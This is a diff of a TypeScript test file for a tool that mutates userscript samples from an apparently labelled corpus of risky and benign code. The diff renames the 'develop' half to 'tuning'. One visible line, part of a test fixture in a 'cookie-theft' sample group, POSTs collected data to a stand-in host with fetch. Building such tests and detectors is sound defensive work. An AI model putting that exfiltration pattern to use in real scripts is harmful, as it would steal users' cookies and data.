@@ -7,11 +7,11 @@ import { mutate, mutationKinds } from "./mutate.ts";
 import { pureSnippets } from "./pure-snippets.ts";
 
 /** In short, each way of rewriting is tried on every eighth sample; a soak run tries it on all. */
-const develop = loadCorpus("develop").filter((_, index) => process.env.SCRIPTORIUM_SOAK === "1" || index % 8 === 0);
+const tuning = loadCorpus("tuning").filter((_, index) => process.env.SCRIPTORIUM_SOAK === "1" || index % 8 === 0);
 
 function sampleOf(code: string, file = "risky/cookie-theft/a.user.js", harmLines: number[] = []): Sample {
 	return {
-		half: "develop",
+		half: "tuning",
 		file,
 		class: "risky",
 		group: "cookie-theft",
@@ -35,7 +35,7 @@ async function answerOf(code: string): Promise<unknown> {
 describe.each(mutationKinds)("%s", (kind) => {
 	it("makes of every sample it applies to another program that parses, and keeps the metadata", async () => {
 		let applied = 0;
-		for (const sample of develop) {
+		for (const sample of tuning) {
 			const mutant = await mutate(sample, kind);
 			if (mutant === null) continue;
 			applied += 1;
@@ -44,11 +44,11 @@ describe.each(mutationKinds)("%s", (kind) => {
 			const [head = ""] = sample.code.split("// ==/UserScript==");
 			if (sample.file.endsWith(".user.js")) expect(mutant.code.startsWith(head), sample.file).toBe(true);
 		}
-		expect(applied).toBeGreaterThan(develop.length * 0.6);
+		expect(applied).toBeGreaterThan(tuning.length * 0.6);
 	});
 
 	it("is the same each time", async () => {
-		for (const sample of develop.filter((_, index) => index % 2 === 0))
+		for (const sample of tuning.filter((_, index) => index % 2 === 0))
 			expect(await mutate(sample, kind)).toEqual(await mutate(sample, kind));
 	});
 
@@ -101,7 +101,7 @@ fetch('https://host.example/collect', { method: 'POST', body });
 	});
 
 	it("survive in every risky sample that is rewritten in place", async () => {
-		const risky = develop.filter((sample) => sample.class === "risky");
+		const risky = tuning.filter((sample) => sample.class === "risky");
 		for (const kind of mutationKinds.filter((kind) => kind !== "bundle" && kind !== "minify")) {
 			for (const sample of risky) {
 				const mutant = await mutate(sample, kind);
